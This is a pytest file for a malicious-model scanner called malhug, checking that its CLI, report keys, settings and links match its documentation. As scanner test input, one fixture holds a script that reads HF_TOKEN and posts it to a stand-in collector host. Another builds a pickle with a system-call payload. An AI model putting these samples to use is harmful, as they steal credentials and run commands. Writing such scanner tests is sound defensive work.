"""The contracts in docs/ match the code, and nothing in the repository points outside it.

Each check reads the code's own definitions (the CLI parser, the exit codes, a report built from a
scan, the closed lists, the settings tables, the server's commands) and looks for them in the page
that owns them, so adding an option, a report key or a setting without documenting it fails here.
"""

from __future__ import annotations

import argparse
import json
import re
import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from malhug import cli
from malhug.analyzers.api import scan_bytes
from malhug.core.model import Category, ScanReport, ScanStats, Severity, Verdict
from malhug.hub.cli import summary
from malhug.hub.types import RepoScan
from malhug.output import sarif
from malhug.server import commands as server_commands
from malhug.server.settings import OPTIONS as SERVER_SETTINGS
from tests.builders.pickles import payload_ops
from tests.containers.helpers import system_call

ROOT = Path(__file__).resolve().parent.parent
DOCS = ROOT / "docs"


def _read(name: str) -> str:
    return (DOCS / name).read_text(encoding="utf-8")


def _mentions(text: str, word: str) -> bool:
    """``word`` appears on its own (not as part of a longer option, key or name)."""
    return re.search(rf"(?<![\w-]){re.escape(word)}(?![\w-])", text) is not None


def _table_keys(text: str) -> set[str]:
    """The first cell of every table row, when it is a code span: ``| `name` | ...``."""
    return set(re.findall(r"^\| `([^`]+)`", text, re.MULTILINE))


# --- nothing points outside the repository --------------------------------------------------------

_LOCKFILES = {"package-lock.json", "yarn.lock", "pnpm-lock.yaml", "poetry.lock", "uv.lock"}


def _tracked_text_files() -> Iterator[tuple[str, str]]:
    try:
        out = subprocess.run(
            ["git", "ls-files", "-z"], cwd=ROOT, capture_output=True, check=True, timeout=60
        ).stdout.decode()
    except (OSError, subprocess.CalledProcessError) as exc:
        pytest.skip(f"not a git checkout: {exc}")
    for rel in filter(None, out.split("\0")):
        path = ROOT / rel
        if Path(rel).name in _LOCKFILES or not path.is_file():
            continue
        data = path.read_bytes()
        if b"\0" in data[:8192]:
            continue  # binary
        yield rel, data.decode("utf-8", errors="replace")


def _outside_patterns(names: set[str]) -> list[re.Pattern[str]]:
    patterns = [
        re.compile(r"\.\./shared\b"),  # the planning folder next to a checkout
        re.compile(r"(?<![\w./-])/wor[k]/"),  # an absolute path of the build machine
    ]
    home = Path.home().as_posix()
    if home.startswith("/home/"):
        patterns.append(re.compile(re.escape(home) + r"\b"))
    # Planning documents that a clone does not have (unless the repository grows a file of that name).
    planning = [f"{stem}.md" for stem in ("DESIGN", "NOTES")]
    patterns += [re.compile(rf"\b{re.escape(n)}\b") for n in planning if n not in names]
    return patterns


def test_no_tracked_file_refers_outside_the_repository() -> None:
    files = dict(_tracked_text_files())
    patterns = _outside_patterns({Path(rel).name for rel in files})
    hits = [
        f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: {m.group(0)}"
        for rel, text in files.items()
        for pattern in patterns
        for m in pattern.finditer(text)
    ]
    assert not hits, "references outside the repository:\n" + "\n".join(hits)


def test_no_ownership_notes() -> None:
    """Who owns a file is what ``git log`` is for."""
    note = re.compile(r"(?i)\bengineer [A-H]\b|owner:\sengineer")
    hits = [
        f"{rel}:{text.count(chr(10), 0, m.start()) + 1}: {m.group(0)}"
        for rel, text in _tracked_text_files()
        for m in note.finditer(text)
    ]
    assert not hits, "ownership notes:\n" + "\n".join(hits)


def test_outside_patterns_catch_what_they_are_for() -> None:
    patterns = _outside_patterns(set())
    for bad in ("see ../" + "shared/x", "/wo" + "rk/shared/x (y)", "the closed list in DESIGN" + ".md"):
        assert any(p.search(bad) for p in patterns), bad
    for fine in ("bench/wo" + "rk/results.json", "docs/REPORT.md", "/home/u/.ssh/id_rsa"):
        assert not any(p.search(fine) for p in patterns), fine


# --- the command line -----------------------------------------------------------------------------


def _walk(parser: argparse.ArgumentParser, path: str) -> Iterator[tuple[str, argparse.Action]]:
    for action in parser._actions:
        yield path, action
        if isinstance(action, argparse._SubParsersAction):
            for name, sub in action.choices.items():
                yield from _walk(sub, f"{path} {name}")


def _cli_parser() -> argparse.ArgumentParser:
    """The parser ``malhug`` runs: built by the CLI module's parser function, whatever its exact name."""
    builders = [f for name, f in vars(cli).items() if "parser" in name.lower() and callable(f)]
    parsers = [p for p in (f() for f in builders if not isinstance(f, type)) if isinstance(p, argparse.ArgumentParser)]
    assert len(parsers) == 1, f"expected one parser-building function in malhug.cli, found {builders}"
    return parsers[0]


def test_every_command_option_and_choice_is_in_cli_md() -> None:
    text = _read("CLI.md")
    missing = []
    for path, action in _walk(_cli_parser(), "malhug"):
        if isinstance(action, argparse._SubParsersAction):
            missing += [f"{path} {name}" for name in action.choices if f"`{path} {name}`" not in text]
            continue
        missing += [f"{path} {o}" for o in action.option_strings if not _mentions(text, o)]
        if not action.option_strings and action.metavar and not _mentions(text, str(action.metavar)):
            missing.append(f"{path} {action.metavar}")
        if action.choices is not None:
            missing += [f"{path} {action.dest}={c}" for c in action.choices if f"`{c}`" not in text]
    assert not missing, f"not in docs/CLI.md: {missing}"


def test_exit_codes_table_is_exactly_the_cli_codes() -> None:
    codes = {value for name, value in vars(cli).items() if name.startswith("EXIT_") and isinstance(value, int)}
    assert codes == {0, 1, 2}
    section = _read("CLI.md").split("### Exit status", 1)[1].split("\n## ", 1)[0]
    documented = {int(c) for c in re.findall(r"^\| `(\d+)` \|", section, re.MULTILINE)}
    assert documented == codes


# --- the JSON report --------------------------------------------------------------------------------

_SCRIPT = b"""import os, requests
token = os.environ["HF_TOKEN"]
requests.post("https://collector.example/x", data=token)
"""


def _report() -> dict[str, Any]:
    """A report with every optional part: a trace, source ranges, ``analyzed_as`` and both hub sections."""
    text_pickle = b"S'" + b"A" * 40_000 + b"'\n0" + payload_ops([system_call()], protocol=0) + b"N."
    files = [scan_bytes(_SCRIPT, name="modeling_evil.py"), scan_bytes(text_pickle, name="notes.txt")]
    assert files[1].analyzed_as, "the fixture must get more than one analysis"
    assert any(f.trace and f.location.end_line for f in files[0].findings)
    scan = RepoScan("org/name", "model", "main", "a" * 40, skipped={"big.bin": "over the cap"})
    extra = {
        "hub": {"hf:org/name@main": summary(scan)},
        "hf_cache": {f"hf:org/name@{'a' * 40}": {**summary(scan), "refs": ["main"]}},
    }
    report = ScanReport(files=files, stats=ScanStats(files=2, bytes_read=1, seconds=0.1), extra=extra)
    return json.loads(json.dumps(report.to_dict()))


def _keys(value: Any, parent: str = "") -> Iterator[str]:
    if isinstance(value, dict):
        for key, item in value.items():
            if parent in ("hub", "hf_cache"):
                yield from _keys(item, "summary")  # keyed by target
            elif parent == "skipped":
                continue  # keyed by path
            else:
                yield key
                yield from _keys(item, key)
    elif isinstance(value, list):
        for item in value:
            yield from _keys(item, parent)


def test_every_report_key_is_in_report_md() -> None:
    documented = _read("REPORT.md")
    keys = set(_keys(_report()))
    assert {"analyzed_as", "trace", "end_line", "end_column", "refs", "hub", "hf_cache"} <= keys
    missing = sorted(k for k in keys if f"`{k}`" not in documented)
    assert not missing, f"report keys not in docs/REPORT.md: {missing}"


def test_verdicts_and_severities_are_in_report_md() -> None:
    text = _read("REPORT.md")
    missing = [v.value for v in Verdict if f"`{v.value}`" not in text]
    missing += [s.value for s in Severity if f"`{s.value}`" not in text]
    assert not missing


def test_sarif_levels_table_matches_the_renderer() -> None:
    text = _read("REPORT.md").split("## SARIF", 1)[1]
    for severity in Severity:
        row = rf"^\| `{severity.value}` \| `{sarif._LEVEL[severity]}` \| {re.escape(sarif._SECURITY_SEVERITY[severity])} \|$"
        assert re.search(row, text, re.MULTILINE), severity


def test_every_category_is_in_categories_md() -> None:
    rows = _table_keys(_read("CATEGORIES.md"))
    assert {c.value for c in Category} <= rows


# --- the language server and the editor -----------------------------------------------------------


def _package_json() -> dict[str, Any]:
    data: dict[str, Any] = json.loads((ROOT / "client-vscode" / "package.json").read_text(encoding="utf-8"))
    return data["contributes"]


def _client_settings() -> set[str]:
    config = _package_json()["configuration"]
    sections = config if isinstance(config, list) else [config]
    return {key.removeprefix("malhug.") for section in sections for key in section["properties"]}


def test_every_setting_is_in_the_page_that_owns_it() -> None:
    """Server settings in docs/LSP.md, the extension's own settings in docs/EDITOR.md."""
    lsp, editor = _table_keys(_read("LSP.md")), _table_keys(_read("EDITOR.md"))
    server = set(SERVER_SETTINGS)
    assert server - lsp == set(), "server settings missing from docs/LSP.md"
    assert (_client_settings() - server) - editor == set(), "extension settings missing from docs/EDITOR.md"
    assert not (server & editor), "a server setting is described in docs/EDITOR.md too (one place per fact)"


def test_every_server_command_is_in_lsp_md() -> None:
    commands = {
        value
        for name, value in vars(server_commands).items()
        if name.isupper() and isinstance(value, str) and value.startswith("malhug.")
    }
    assert commands, "the server defines its commands in malhug.server.commands"
    table = _table_keys(_read("LSP.md"))
    assert commands <= table


def test_every_extension_command_is_in_editor_md() -> None:
    text = _read("EDITOR.md")
    missing = [c["command"] for c in _package_json()["commands"] if f"{c['category']}: {c['title']}" not in text]
    assert not missing


# --- links --------------------------------------------------------------------------------------------

_LINK = re.compile(r"!?\[[^\]]*\]\(([^)\s]+)\)")


def _slug(heading: str) -> str:
    """GitHub's anchor for a heading."""
    text = re.sub(r"[^\w\- ]", "", heading.strip().lower())
    return text.replace(" ", "-")


def _anchors(path: Path) -> set[str]:
    text = re.sub(r"```.*?```", "", path.read_text(encoding="utf-8"), flags=re.DOTALL)
    return {_slug(m) for m in re.findall(r"^#+ (.+)$", text, re.MULTILINE)}


def _markdown_pages() -> list[Path]:
    return [ROOT / "README.md", ROOT / "DEVELOPERS.md", *sorted(DOCS.glob("*.md"))]


@pytest.mark.parametrize("page", _markdown_pages(), ids=lambda p: p.relative_to(ROOT).as_posix())
def test_relative_links_point_to_existing_files(page: Path) -> None:
    text = re.sub(r"```.*?```", "", page.read_text(encoding="utf-8"), flags=re.DOTALL)
    broken = []
    for target in _LINK.findall(text):
        if re.match(r"^[a-z]+:", target):
            continue  # http(s), mailto
        file_part, _, anchor = target.partition("#")
        dest = (page.parent / file_part).resolve() if file_part else page
        if not dest.exists():
            broken.append(target)
        elif anchor and dest.suffix == ".md" and anchor not in _anchors(dest):
            broken.append(target)
    assert not broken, f"broken links in {page.name}: {broken}"


def test_slug_follows_github() -> None:
    assert _slug("Exit status") == "exit-status"
    assert _slug("`malhug scan`") == "malhug-scan"
    assert _slug("Progress and logs") == "progress-and-logs"
